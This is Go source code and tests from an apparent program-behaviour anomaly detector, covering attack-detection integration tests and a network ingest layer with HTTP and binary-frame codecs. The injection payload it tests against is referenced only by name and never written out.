		t.Errorf("timings not recorded: %+v", sa.Timings)
	}
}

func TestAnalyzeRejectsInvalidProgram(t *testing.T) {
	if _, err := Analyze(&ir.Program{Name: "bad", Entry: "main"}); err == nil {
		t.Fatal("Analyze accepted invalid program")
	}
}

// TestEndToEndAttackDetection is the package's integration test: train on
// AppB's normal corpus, monitor the SQL-injection run, and require a DL
// alert connected to the query source.
func TestEndToEndAttackDetection(t *testing.T) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	p, sa, err := Train(app.Prog, traces, profile.Options{Train: hmm.TrainOptions{MaxIters: 8}})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	if sa == nil || p == nil {
		t.Fatal("nil outputs")
	}

	// Normal runs stay quiet.
	var normalAlerts []detect.Alert
	mon := NewMonitor(p, nil)
	for _, tr := range traces[:10] {
		normalAlerts = append(normalAlerts, mon.ObserveTrace(tr)...)
	}
	if len(normalAlerts) != 0 {
		t.Fatalf("normal traces raised %d alerts: %+v", len(normalAlerts), normalAlerts[0])
	}

	// The tautology injection must raise a DL alert with origins.
	injTrace, err := app.RunCase(app.Prog,
		dataset.TestCase{Name: "inj", Input: []string{"1", attack.TautologyPayload}},
		collector.ModeADPROM, nil)
	if err != nil {
		t.Fatalf("injection run: %v", err)
	}
	var got []detect.Alert
	sink := AlertFunc(func(a detect.Alert) { got = append(got, a) })
	mon2 := NewMonitor(p, sink)
	all := mon2.ObserveTrace(injTrace)
	if len(all) == 0 {
		t.Fatal("injection raised no alerts")
	}
	dl := 0
	for _, a := range all {
		if a.Flag == detect.FlagDL {
			dl++
			if len(a.Origins) == 0 {
				t.Errorf("DL alert without origins: %+v", a)
			}
		}
	}
	if dl == 0 {
		t.Errorf("no DL alert among %d alerts", len(all))
	}
	if len(got) == 0 {
		t.Error("sink received nothing")
	}
}

// TestInlineMonitoring attaches the monitor to a live interpreter run of an
// attacked program (attack 2: new calls in help()).
func TestInlineMonitoring(t *testing.T) {
	app := dataset.AppB()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	p, _, err := Train(app.Prog, traces, profile.Options{Train: hmm.TrainOptions{MaxIters: 5}})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}

	var atk attack.Attack
	for _, a := range attack.AppBAttacks() {
		if a.ID == 2 {
			atk = a
		}
	}
	bad, err := atk.Apply(app.Prog)
	if err != nil {
		t.Fatalf("Apply: %v", err)
	}

	world := interp.NewWorld(app.FreshDB())
	ip := interp.New(bad, world, interp.Options{})
	mon := NewMonitor(p, nil)
	mon.Attach(ip)
	if _, err := ip.Run(atk.Cases[0].Input...); err != nil {
		t.Fatalf("Run: %v", err)
	}
	mon.Engine().Flush()

	ooc := 0
	for _, a := range mon.Alerts() {
		if a.Flag == detect.FlagOutOfContext {
			ooc++
		}
	}
	if ooc == 0 {
		t.Errorf("attack 2 raised no OutOfContext alerts (total %d)", len(mon.Alerts()))
	}
}
