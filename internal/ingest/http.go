package ingest

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"adprom/internal/trace"
)

// Handler returns an http.Handler ingesting batches over POST: the request
// body is a stream of events in either codec, selected by Content-Type —
// application/octet-stream for binary frames, anything else (use
// application/x-ndjson) for NDJSON. The whole body is decoded and
// dispatched; the response is 202 with a one-line summary, or 400 naming
// the first malformed event. Sink refusals (unknown tenant, quota,
// shedding) do not fail the request; they are tallied in the summary, so a
// collector can observe its rejection rate without parsing metrics.
//
// HTTP ingest trades the TCP listener's streaming backpressure for
// request/response batching — right for cron-style exporters and the curl
// examples in the README; sustained collectors should prefer the TCP path.
func Handler(sink Sink, maxBody int64) http.Handler {
	if maxBody <= 0 {
		maxBody = 8 << 20
	}
	ts, _ := sink.(TraceSink)
	return &httpIngest{sink: sink, ts: ts, maxBody: maxBody}
}

type httpIngest struct {
	sink    Sink
	ts      TraceSink // non-nil when sink supports traced observes
	maxBody int64

	events  atomic.Uint64
	rejects atomic.Uint64
}

func (h *httpIngest) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		w.Header().Set("Allow", http.MethodPost)
		http.Error(w, "POST an event batch", http.StatusMethodNotAllowed)
		return
	}
	body := http.MaxBytesReader(w, r.Body, h.maxBody)
	var dec decoder
	ct := r.Header.Get("Content-Type")
	if i := strings.IndexByte(ct, ';'); i >= 0 {
		ct = ct[:i]
	}
	codec := "http+ndjson"
	if strings.TrimSpace(ct) == "application/octet-stream" {
		dec = NewFrameDecoder(body, 0)
		codec = "http+binary"
	} else {
		dec = NewNDJSONDecoder(body, 0)
	}
	var events, calls, rejects int
	for {
		e, err := dec.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			var mbe *http.MaxBytesError
			if errors.As(err, &mbe) {
				http.Error(w, "batch exceeds body limit", http.StatusRequestEntityTooLarge)
				return
			}
			http.Error(w, fmt.Sprintf("event %d: %v", events+1, err), http.StatusBadRequest)
			return
		}
		events++
		var serr error
		switch e.Kind {
		case KindObserve:
			calls += len(e.Calls)
			if h.ts != nil {
				serr = h.ts.ObserveTraced(trace.Context{
					ID:     e.Trace,
					Start:  time.Now(),
					Remote: r.RemoteAddr,
					Codec:  codec,
				}, e.Tenant, e.Session, e.Calls)
				break
			}
			serr = h.sink.Observe(e.Tenant, e.Session, e.Calls)
		case KindFlush:
			serr = h.sink.Flush(e.Tenant, e.Session)
		case KindClose:
			serr = h.sink.CloseSession(e.Tenant, e.Session)
		}
		if serr != nil {
			rejects++
		}
	}
	h.events.Add(uint64(events))
	h.rejects.Add(uint64(rejects))
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.WriteHeader(http.StatusAccepted)
	fmt.Fprintf(w, "accepted events=%d calls=%d rejected=%d\n", events, calls, rejects)
}
