// Package ingest is the network front door of the fleet server: it accepts
// remote call events over TCP or HTTP, decodes them from NDJSON or a
// length-prefixed binary frame format, and demultiplexes them by tenant id
// into the tenant router.
//
// # Binary frame format (v3)
//
// Mirroring the profile codec's header discipline (magic / version / length
// / CRC-32), each event batch travels as one self-delimiting frame:
//
//	magic   [4]byte  "ADIN"
//	version uint16   big-endian, currently 3
//	kind    uint8    1=observe, 2=flush, 3=close-session
//	length  uint32   big-endian payload byte count
//	crc     uint32   big-endian IEEE CRC-32 of the payload
//	payload []byte:
//	    tenant  uint16-length-prefixed UTF-8 bytes
//	    session uint16-length-prefixed UTF-8 bytes
//	    (v3 and later)
//	    trace   uint16-length-prefixed UTF-8 bytes (may be empty)
//	    (observe only)
//	    count   uint16 number of calls, then per call:
//	        label, name, caller  uint16-length-prefixed bytes each
//	        block                uint32 big-endian
//	        (v2 and later)
//	        sql                  uint16-length-prefixed bytes
//	        rows                 uint32 big-endian
//
// Version 2 extends each call with the executed query's wire text and result
// row count, feeding the SQL-behaviour detection channel. Version 3 adds an
// optional client-supplied trace ID after the session, so a collector can
// correlate its own telemetry with the server-side decision trace. The
// decoder still reads v1 and v2 streams from older collectors — their calls
// simply carry no query data (v1) and their traces get server-assigned IDs.
//
// Malformed input — bad magic, truncated headers or payloads, checksum
// mismatches, over-limit lengths, payloads that underrun their declared
// structure — fails with an error wrapping ErrFrameCorrupt; a newer frame
// version fails with ErrFrameIncompatible. The decoder never panics on
// arbitrary bytes (FuzzDecodeFrame holds it to that).
//
// # Backpressure
//
// Connections feed the sink synchronously: while the router's shard queues
// are full under the Block policy, the reader goroutine blocks and the
// kernel's TCP window closes toward the remote collector — per-connection
// backpressure for free. Under ShedByRisk the sink returns shed errors
// instead; the server counts them per connection and keeps reading, so the
// degradation curve composes with the runtime's risk-aware admission.
package ingest

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"

	"adprom/internal/collector"
)

// Kind discriminates what a frame (or NDJSON event) asks of the sink.
type Kind uint8

const (
	// KindObserve carries a batch of calls for one (tenant, session).
	KindObserve Kind = 1
	// KindFlush asks the session to judge its pending short window and
	// reset for the next trace.
	KindFlush Kind = 2
	// KindClose flushes and deregisters the session, releasing its quota
	// slot.
	KindClose Kind = 3
)

func (k Kind) String() string {
	switch k {
	case KindObserve:
		return "observe"
	case KindFlush:
		return "flush"
	case KindClose:
		return "close"
	default:
		return fmt.Sprintf("Kind(%d)", uint8(k))
	}
}

// Frame codec constants; FrameVersion is what EncodeFrame writes today (the
// decoder also reads version 1, which lacks the per-call sql/rows fields,
// and version 2, which lacks the trace ID).
const (
	FrameVersion = 3

	frameHeaderLen = 4 + 2 + 1 + 4 + 4

	// DefaultMaxFrame bounds a frame's declared payload so a corrupt or
	// hostile header cannot make the decoder allocate gigabytes.
	DefaultMaxFrame = 1 << 20
)

var frameMagic = [4]byte{'A', 'D', 'I', 'N'}

// Typed decode failures; match with errors.Is.
var (
	// ErrFrameCorrupt reports a frame that is truncated, bit-flipped
	// (checksum mismatch), structurally short, or over the size limit.
	ErrFrameCorrupt = errors.New("ingest: corrupt frame")
	// ErrFrameIncompatible reports a well-formed frame written by a newer
	// format version than this build understands.
	ErrFrameIncompatible = errors.New("ingest: incompatible frame version")
)

// Event is one decoded ingest operation, the unit both codecs produce.
type Event struct {
	Kind    Kind
	Tenant  string
	Session string
	// Trace is the client-supplied trace ID ("" = none; the server assigns
	// one when tracing is enabled).
	Trace string
	// Calls is populated for KindObserve. Decoders reuse the backing array
	// across events: the sink must not retain it past the delivery call
	// (runtime.Session.ObserveBatch copies, so the standard path is safe).
	Calls []collector.Call
}

// EncodeFrame appends the v1 binary encoding of e to dst and returns the
// extended slice. Strings longer than 64 KiB and batches over 65535 calls
// are refused (the uint16 length prefixes cannot carry them).
func EncodeFrame(dst []byte, e Event) ([]byte, error) {
	switch e.Kind {
	case KindObserve, KindFlush, KindClose:
	default:
		return dst, fmt.Errorf("ingest: encoding unknown kind %d", e.Kind)
	}
	var payload []byte
	payload, err := appendString(payload, e.Tenant)
	if err != nil {
		return dst, err
	}
	if payload, err = appendString(payload, e.Session); err != nil {
		return dst, err
	}
	if payload, err = appendString(payload, e.Trace); err != nil {
		return dst, err
	}
	if e.Kind == KindObserve {
		if len(e.Calls) > 0xFFFF {
			return dst, fmt.Errorf("ingest: batch of %d calls exceeds frame limit", len(e.Calls))
		}
		payload = binary.BigEndian.AppendUint16(payload, uint16(len(e.Calls)))
		for i := range e.Calls {
			c := &e.Calls[i]
			if payload, err = appendString(payload, c.Label); err != nil {
				return dst, err
			}
			if payload, err = appendString(payload, c.Name); err != nil {
				return dst, err
			}
			if payload, err = appendString(payload, c.Caller); err != nil {
				return dst, err
			}
			payload = binary.BigEndian.AppendUint32(payload, uint32(c.Block))
			if payload, err = appendString(payload, c.SQL); err != nil {
				return dst, err
			}
			payload = binary.BigEndian.AppendUint32(payload, uint32(c.Rows))
		}
	}
	dst = append(dst, frameMagic[:]...)
	dst = binary.BigEndian.AppendUint16(dst, FrameVersion)
	dst = append(dst, byte(e.Kind))
	dst = binary.BigEndian.AppendUint32(dst, uint32(len(payload)))
	dst = binary.BigEndian.AppendUint32(dst, crc32.ChecksumIEEE(payload))
	return append(dst, payload...), nil
}

func appendString(dst []byte, s string) ([]byte, error) {
	if len(s) > 0xFFFF {
		return dst, fmt.Errorf("ingest: string of %d bytes exceeds frame limit", len(s))
	}
	dst = binary.BigEndian.AppendUint16(dst, uint16(len(s)))
	return append(dst, s...), nil
}

// WriteFrame encodes e and writes it to w — the collector-side sender.
func WriteFrame(w io.Writer, e Event) error {
	buf, err := EncodeFrame(nil, e)
	if err != nil {
		return err
	}
	_, err = w.Write(buf)
	return err
}

// FrameDecoder reads consecutive binary frames from a stream, amortising
// its buffers: the payload scratch, the decoded Calls slice, and an intern
// table for the small recurring string vocabulary (tenant ids, session ids,
// call labels) are reused across frames, so steady-state decoding of a busy
// connection allocates only on first sight of a new string. Not safe for
// concurrent use; each connection owns one.
type FrameDecoder struct {
	r        *bufio.Reader
	maxFrame int

	payload []byte
	calls   []collector.Call
	intern  map[string]string
	hdr     [frameHeaderLen]byte
}

// NewFrameDecoder wraps r. maxFrame bounds the accepted payload size
// (DefaultMaxFrame when <= 0).
func NewFrameDecoder(r io.Reader, maxFrame int) *FrameDecoder {
	if maxFrame <= 0 {
		maxFrame = DefaultMaxFrame
	}
	br, ok := r.(*bufio.Reader)
	if !ok {
		br = bufio.NewReader(r)
	}
	return &FrameDecoder{r: br, maxFrame: maxFrame, intern: make(map[string]string)}
}

// Next decodes the next frame. A clean end of stream between frames returns
// io.EOF; a stream ending mid-frame, or any malformed frame, returns an
// error wrapping ErrFrameCorrupt (the connection cannot be resynchronised
// and must be dropped). The returned Event's strings are valid
// indefinitely; its Calls slice only until the following Next.
func (d *FrameDecoder) Next() (Event, error) {
	if _, err := io.ReadFull(d.r, d.hdr[:1]); err != nil {
		if err == io.EOF {
			return Event{}, io.EOF
		}
		return Event{}, fmt.Errorf("%w: reading header: %v", ErrFrameCorrupt, err)
	}
	if _, err := io.ReadFull(d.r, d.hdr[1:]); err != nil {
		return Event{}, fmt.Errorf("%w: truncated header: %v", ErrFrameCorrupt, err)
	}
	if [4]byte(d.hdr[:4]) != frameMagic {
		return Event{}, fmt.Errorf("%w: bad magic %q", ErrFrameCorrupt, d.hdr[:4])
	}
	version := binary.BigEndian.Uint16(d.hdr[4:6])
	if version == 0 || version > FrameVersion {
		return Event{}, fmt.Errorf("%w: version %d (this build reads <= %d)",
			ErrFrameIncompatible, version, FrameVersion)
	}
	kind := Kind(d.hdr[6])
	length := int(binary.BigEndian.Uint32(d.hdr[7:11]))
	sum := binary.BigEndian.Uint32(d.hdr[11:15])
	if length > d.maxFrame {
		return Event{}, fmt.Errorf("%w: declared payload of %d bytes exceeds limit %d",
			ErrFrameCorrupt, length, d.maxFrame)
	}
	if cap(d.payload) < length {
		d.payload = make([]byte, length)
	}
	payload := d.payload[:length]
	if _, err := io.ReadFull(d.r, payload); err != nil {
		return Event{}, fmt.Errorf("%w: truncated payload: %v", ErrFrameCorrupt, err)
	}
	if got := crc32.ChecksumIEEE(payload); got != sum {
		return Event{}, fmt.Errorf("%w: checksum mismatch: %08x, header says %08x",
			ErrFrameCorrupt, got, sum)
	}
	return d.decodePayload(version, kind, payload)
}

// decodePayload parses one verified payload into an Event. version selects
// the layout: v1 calls end at the block id, v2 calls append the executed
// query and its row count, v3 payloads carry a trace ID after the session.
func (d *FrameDecoder) decodePayload(version uint16, kind Kind, p []byte) (Event, error) {
	e := Event{Kind: kind}
	var err error
	if e.Tenant, p, err = d.takeString(p); err != nil {
		return Event{}, fmt.Errorf("%w: tenant: %v", ErrFrameCorrupt, err)
	}
	if e.Session, p, err = d.takeString(p); err != nil {
		return Event{}, fmt.Errorf("%w: session: %v", ErrFrameCorrupt, err)
	}
	if version >= 3 {
		// Trace IDs are unique per op: copy rather than intern.
		var tb []byte
		if tb, p, err = takeBytes(p); err != nil {
			return Event{}, fmt.Errorf("%w: trace: %v", ErrFrameCorrupt, err)
		}
		if len(tb) > 0 {
			e.Trace = string(tb)
		}
	}
	switch kind {
	case KindFlush, KindClose:
		if len(p) != 0 {
			return Event{}, fmt.Errorf("%w: %d trailing payload bytes on %s frame",
				ErrFrameCorrupt, len(p), kind)
		}
		return e, nil
	case KindObserve:
	default:
		return Event{}, fmt.Errorf("%w: unknown frame kind %d", ErrFrameCorrupt, uint8(kind))
	}
	if len(p) < 2 {
		return Event{}, fmt.Errorf("%w: truncated call count", ErrFrameCorrupt)
	}
	n := int(binary.BigEndian.Uint16(p))
	p = p[2:]
	if cap(d.calls) < n {
		d.calls = make([]collector.Call, n)
	}
	calls := d.calls[:n]
	for i := 0; i < n; i++ {
		c := &calls[i]
		*c = collector.Call{}
		if c.Label, p, err = d.takeString(p); err != nil {
			return Event{}, fmt.Errorf("%w: call %d label: %v", ErrFrameCorrupt, i, err)
		}
		if c.Name, p, err = d.takeString(p); err != nil {
			return Event{}, fmt.Errorf("%w: call %d name: %v", ErrFrameCorrupt, i, err)
		}
		if c.Caller, p, err = d.takeString(p); err != nil {
			return Event{}, fmt.Errorf("%w: call %d caller: %v", ErrFrameCorrupt, i, err)
		}
		if len(p) < 4 {
			return Event{}, fmt.Errorf("%w: call %d truncated block", ErrFrameCorrupt, i)
		}
		c.Block = int(int32(binary.BigEndian.Uint32(p)))
		p = p[4:]
		if version >= 2 {
			// SQL text is not interned: literals make most queries distinct,
			// so the table would only grow. takeString's intern map is for
			// the recurring label vocabulary; copy the query bytes directly.
			var sql []byte
			if sql, p, err = takeBytes(p); err != nil {
				return Event{}, fmt.Errorf("%w: call %d sql: %v", ErrFrameCorrupt, i, err)
			}
			if len(sql) > 0 {
				c.SQL = string(sql)
			}
			if len(p) < 4 {
				return Event{}, fmt.Errorf("%w: call %d truncated rows", ErrFrameCorrupt, i)
			}
			c.Rows = int(int32(binary.BigEndian.Uint32(p)))
			p = p[4:]
		}
	}
	if len(p) != 0 {
		return Event{}, fmt.Errorf("%w: %d trailing payload bytes after %d calls",
			ErrFrameCorrupt, len(p), n)
	}
	e.Calls = calls
	return e, nil
}

// takeString consumes one uint16-length-prefixed string, interning it so
// the recurring vocabulary of a connection (tenant, session, call labels)
// is allocated once. The map lookup via string(b) does not allocate.
func (d *FrameDecoder) takeString(p []byte) (string, []byte, error) {
	if len(p) < 2 {
		return "", p, errors.New("truncated length prefix")
	}
	n := int(binary.BigEndian.Uint16(p))
	p = p[2:]
	if len(p) < n {
		return "", p, fmt.Errorf("declared %d bytes, %d remain", n, len(p))
	}
	b := p[:n]
	s, ok := d.intern[string(b)]
	if !ok {
		s = string(b)
		d.intern[s] = s
	}
	return s, p[n:], nil
}

// takeBytes consumes one uint16-length-prefixed byte run without interning;
// the returned slice aliases p and is only valid until the next frame.
func takeBytes(p []byte) ([]byte, []byte, error) {
	if len(p) < 2 {
		return nil, p, errors.New("truncated length prefix")
	}
	n := int(binary.BigEndian.Uint16(p))
	p = p[2:]
	if len(p) < n {
		return nil, p, fmt.Errorf("declared %d bytes, %d remain", n, len(p))
	}
	return p[:n], p[n:], nil
}
