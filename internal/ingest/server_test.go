package ingest

import (
	"errors"
	"fmt"
	"net"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/trace"
)

// memSink records every delivered event, optionally refusing some tenants.
// It implements TraceSink, so servers deliver observes through ObserveTraced
// and the recorded events keep their client trace IDs.
type memSink struct {
	mu     sync.Mutex
	got    []Event
	tcs    []trace.Context
	refuse map[string]error
}

func (m *memSink) record(kind Kind, tenant, session, traceID string, calls []collector.Call) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if err := m.refuse[tenant]; err != nil {
		return err
	}
	// Copy calls: decoders reuse the slice.
	m.got = append(m.got, Event{Kind: kind, Tenant: tenant, Session: session, Trace: traceID,
		Calls: append([]collector.Call(nil), calls...)})
	return nil
}

func (m *memSink) Observe(tenant, session string, calls []collector.Call) error {
	return m.record(KindObserve, tenant, session, "", calls)
}
func (m *memSink) ObserveTraced(tc trace.Context, tenant, session string, calls []collector.Call) error {
	m.mu.Lock()
	m.tcs = append(m.tcs, tc)
	m.mu.Unlock()
	return m.record(KindObserve, tenant, session, tc.ID, calls)
}
func (m *memSink) Flush(tenant, session string) error {
	return m.record(KindFlush, tenant, session, "", nil)
}
func (m *memSink) CloseSession(tenant, session string) error {
	return m.record(KindClose, tenant, session, "", nil)
}

func (m *memSink) events() []Event {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]Event(nil), m.got...)
}

func (m *memSink) contexts() []trace.Context {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]trace.Context(nil), m.tcs...)
}

// waitFor polls cond for up to 2s.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func startServer(t *testing.T, cfg ServerConfig) (*Server, string) {
	t.Helper()
	srv, err := NewServer(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ln) }()
	waitFor(t, "listener registration", func() bool { return srv.Addr() != "" })
	t.Cleanup(func() {
		srv.Close()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	return srv, ln.Addr().String()
}

// TestServerAutoDetectsBothCodecs streams one connection per codec into an
// auto-sniffing server and checks both demultiplex into the sink intact.
func TestServerAutoDetectsBothCodecs(t *testing.T) {
	sink := &memSink{}
	srv, addr := startServer(t, ServerConfig{Sink: sink})

	events := sampleEvents()
	var ndjson, frames []byte
	var err error
	for _, e := range events {
		if ndjson, err = EncodeNDJSON(ndjson, e); err != nil {
			t.Fatal(err)
		}
		if frames, err = EncodeFrame(frames, e); err != nil {
			t.Fatal(err)
		}
	}
	for name, wire := range map[string][]byte{"ndjson": ndjson, "binary": frames} {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := conn.Write(wire); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		conn.Close()
	}
	waitFor(t, "all events", func() bool { return len(sink.events()) == 2*len(events) })

	// Both connections carried the same batch, so every event must land
	// exactly twice, byte-identical across codecs.
	for _, want := range events {
		n := 0
		for _, got := range sink.events() {
			if eventsEqual(got, want) {
				n++
			}
		}
		if n != 2 {
			t.Errorf("event %+v delivered %d times, want 2", want, n)
		}
	}
	st := srv.Stats()
	if st.Conns != 2 || st.Events != 2*uint64(len(events)) || st.DecodeErrors != 0 {
		t.Fatalf("stats: %+v", st)
	}
}

// plainSink hides memSink's TraceSink extension, forcing the untraced
// delivery path.
type plainSink struct{ m *memSink }

func (p plainSink) Observe(tenant, session string, calls []collector.Call) error {
	return p.m.Observe(tenant, session, calls)
}
func (p plainSink) Flush(tenant, session string) error        { return p.m.Flush(tenant, session) }
func (p plainSink) CloseSession(tenant, session string) error { return p.m.CloseSession(tenant, session) }

// TestServerTraceContext pins the wire-level trace context handed to a
// TraceSink: the client's trace ID, the connection's remote address, the
// resolved codec, and a decode timestamp — and that a sink without the
// extension still receives events through the plain path.
func TestServerTraceContext(t *testing.T) {
	sink := &memSink{}
	_, addr := startServer(t, ServerConfig{Sink: sink})
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	wire, err := EncodeNDJSON(nil, sampleEvents()[0])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(wire); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	waitFor(t, "traced observe", func() bool { return len(sink.contexts()) == 1 })
	tc := sink.contexts()[0]
	if tc.ID != "c0ffee0123456789" {
		t.Errorf("trace ID = %q", tc.ID)
	}
	if tc.Remote == "" {
		t.Error("trace context missing the remote address")
	}
	if tc.Codec != "ndjson" {
		t.Errorf("trace codec = %q, want ndjson", tc.Codec)
	}
	if tc.Start.IsZero() {
		t.Error("trace context missing the decode time")
	}

	// A sink without the TraceSink extension still gets the event (minus the
	// trace, which the plain interface cannot carry).
	plain := &memSink{}
	_, addr = startServer(t, ServerConfig{Sink: plainSink{plain}})
	conn, err = net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(wire); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	waitFor(t, "plain observe", func() bool { return len(plain.events()) == 1 })
	if got := plain.events()[0]; got.Trace != "" || got.Kind != KindObserve {
		t.Errorf("plain sink event = %+v", got)
	}
	if len(plain.contexts()) != 0 {
		t.Error("plain sink received a trace context")
	}
}

func TestServerRejectsGarbageConnection(t *testing.T) {
	sink := &memSink{}
	srv, addr := startServer(t, ServerConfig{Sink: sink, Codec: CodecBinary})
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write([]byte("XXXXXXXXXXXXXXXXXXXXXXXX")); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	waitFor(t, "decode error", func() bool { return srv.Stats().DecodeErrors == 1 })
	if got := len(sink.events()); got != 0 {
		t.Fatalf("%d events delivered from a garbage connection", got)
	}
}

// TestServerSinkRejectKeepsStreaming proves refusals degrade, not sever: a
// refused tenant's events are counted as rejects while a healthy tenant's
// events on the same connection still land.
func TestServerSinkRejectKeepsStreaming(t *testing.T) {
	sink := &memSink{refuse: map[string]error{"evil": errors.New("quota")}}
	srv, addr := startServer(t, ServerConfig{Sink: sink})
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	var wire []byte
	for i := 0; i < 3; i++ {
		if wire, err = EncodeNDJSON(wire, Event{Kind: KindFlush, Tenant: "evil", Session: "e"}); err != nil {
			t.Fatal(err)
		}
	}
	if wire, err = EncodeNDJSON(wire, Event{Kind: KindFlush, Tenant: "good", Session: "g"}); err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(wire); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	waitFor(t, "rejects counted", func() bool { return srv.Stats().SinkRejects == 3 })
	waitFor(t, "good event delivered", func() bool {
		for _, e := range sink.events() {
			if e.Tenant == "good" {
				return true
			}
		}
		return false
	})
	if st := srv.Stats(); st.Events != 4 || st.DecodeErrors != 0 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestHTTPHandlerBothCodecs(t *testing.T) {
	events := sampleEvents()
	for _, tc := range []struct {
		name, contentType string
		encode            func([]byte, Event) ([]byte, error)
	}{
		{"ndjson", "application/x-ndjson", EncodeNDJSON},
		{"binary", "application/octet-stream", EncodeFrame},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sink := &memSink{}
			h := Handler(sink, 0)
			var body []byte
			var err error
			for _, e := range events {
				if body, err = tc.encode(body, e); err != nil {
					t.Fatal(err)
				}
			}
			req := httptest.NewRequest("POST", "/ingest", strings.NewReader(string(body)))
			req.Header.Set("Content-Type", tc.contentType)
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			if rec.Code != 202 {
				t.Fatalf("status %d: %s", rec.Code, rec.Body.String())
			}
			got := sink.events()
			if len(got) != len(events) {
				t.Fatalf("%d events delivered, want %d", len(got), len(events))
			}
			for i := range got {
				if !eventsEqual(got[i], events[i]) {
					t.Fatalf("event %d: got %+v, want %+v", i, got[i], events[i])
				}
			}
			if !strings.Contains(rec.Body.String(), fmt.Sprintf("events=%d", len(events))) {
				t.Fatalf("summary missing event count: %s", rec.Body.String())
			}
		})
	}
}

func TestHTTPHandlerRejectsMalformed(t *testing.T) {
	h := Handler(&memSink{}, 0)
	req := httptest.NewRequest("POST", "/ingest", strings.NewReader("{broken\n"))
	req.Header.Set("Content-Type", "application/x-ndjson")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	if rec.Code != 400 {
		t.Fatalf("status %d, want 400", rec.Code)
	}
	req = httptest.NewRequest("GET", "/ingest", nil)
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	if rec.Code != 405 {
		t.Fatalf("status %d, want 405", rec.Code)
	}
}
