package ingest

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"adprom/internal/collector"
	"adprom/internal/obsv"
	"adprom/internal/trace"
)

// Sink receives decoded events; tenant.Router satisfies it. Observe may
// block (queue backpressure under the Block policy) or return a shed/quota
// error — both compose with the server's per-connection handling: blocking
// stalls that connection's read loop (closing its TCP window), errors are
// counted and the stream continues.
type Sink interface {
	Observe(tenant, session string, calls []collector.Call) error
	Flush(tenant, session string) error
	CloseSession(tenant, session string) error
}

// TraceSink is an optional Sink extension for sinks that open a decision
// trace per observe event (tenant.Router satisfies it). When the configured
// Sink implements it, the server delivers observe events through
// ObserveTraced, carrying the wire-level trace context: the client-supplied
// trace ID (if the event had one), the decode time, and the connection's
// remote address and codec — so the trace's root span covers everything
// from decode onward. Flush and close events still use the plain Sink
// methods; they carry no trace.
type TraceSink interface {
	ObserveTraced(tc trace.Context, tenant, session string, calls []collector.Call) error
}

// Codec selects the wire format a listener accepts.
type Codec int

const (
	// CodecAuto sniffs each connection's first bytes: frames open with the
	// "ADIN" magic, anything else is treated as NDJSON.
	CodecAuto Codec = iota
	// CodecNDJSON accepts newline-delimited JSON events only.
	CodecNDJSON
	// CodecBinary accepts length-prefixed binary frames only.
	CodecBinary
)

func (c Codec) String() string {
	switch c {
	case CodecAuto:
		return "auto"
	case CodecNDJSON:
		return "ndjson"
	case CodecBinary:
		return "binary"
	default:
		return fmt.Sprintf("Codec(%d)", int(c))
	}
}

// ParseCodec maps a flag value ("auto", "ndjson", "binary") to a Codec.
func ParseCodec(s string) (Codec, error) {
	switch s {
	case "", "auto":
		return CodecAuto, nil
	case "ndjson":
		return CodecNDJSON, nil
	case "binary":
		return CodecBinary, nil
	default:
		return CodecAuto, fmt.Errorf("ingest: unknown codec %q (want auto, ndjson or binary)", s)
	}
}

// ServerConfig configures a Server. The zero value (plus a Sink) serves
// both codecs with default limits.
type ServerConfig struct {
	// Sink receives decoded events. Required.
	Sink Sink
	// Codec restricts the accepted wire format; CodecAuto sniffs per
	// connection.
	Codec Codec
	// MaxFrame bounds one binary payload or NDJSON line
	// (DefaultMaxFrame when 0).
	MaxFrame int
	// Logger receives connection lifecycle and decode-failure records;
	// nil discards.
	Logger *slog.Logger
}

// ServerStats is a point-in-time snapshot of a server's counters.
type ServerStats struct {
	// Conns counts connections accepted since start.
	Conns uint64
	// ActiveConns counts connections currently being served.
	ActiveConns int64
	// Events counts events decoded and dispatched to the sink.
